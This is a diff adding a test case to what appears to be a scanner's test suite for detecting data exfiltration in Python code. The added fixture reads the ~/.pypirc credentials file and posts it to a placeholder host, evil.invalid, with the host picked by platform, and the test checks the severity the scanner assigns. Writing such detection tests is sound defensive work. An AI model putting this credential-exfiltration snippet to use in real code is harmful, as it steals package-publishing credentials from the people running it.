@@ -154,6 +154,17 @@ test.each(KEPT)('what is sent by way of %s', (_way, code) => {
   expect(found(code('{"a": 1}'))['stolen-data-sent']).toBeUndefined();
 });
 
+test('which of several addresses it is, a caller says or nobody does', () => {
+  const code = (key: string): string => `
+import configparser, os, sys, urllib.request
+PLACES = {"linux": "https://evil.invalid/a", "win32": "https://evil.invalid/b"}
+def post(name):
+    kept = open(os.path.expanduser("~/.pypirc")).read()
+    return urllib.request.urlopen(PLACES[${key}], kept.encode())`;
+  expect(found(code('sys.platform'))['stolen-data-sent']).toBe('CRITICAL');
+  expect(['CRITICAL', 'HIGH', 'MEDIUM']).not.toContain(found(code('name'))['stolen-data-sent']);
+});
+
 test('a module that is written and then imported', () => {
   const code = (text: string): string => `
 import os, sys, tempfile, urllib.request
